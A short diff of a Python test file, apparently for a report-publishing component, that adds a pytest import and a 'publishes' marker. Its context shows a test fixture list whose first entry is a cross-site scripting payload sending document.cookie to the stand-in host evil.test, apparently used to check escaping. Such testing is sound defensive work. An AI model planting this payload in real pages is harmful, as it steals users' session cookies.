@@ -6,12 +6,15 @@ from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
+import pytest
 from torch import Tensor
 
 import genrep_dist as gr
 from tests.experiments import ROOT, experiment
 from tests.report.test_page import Reader
 from tests.toys import Blobs
+
+pytestmark = pytest.mark.publishes
 
 COMMENTS = (
     '<script>fetch("https://evil.test/" + document.cookie)</script>',
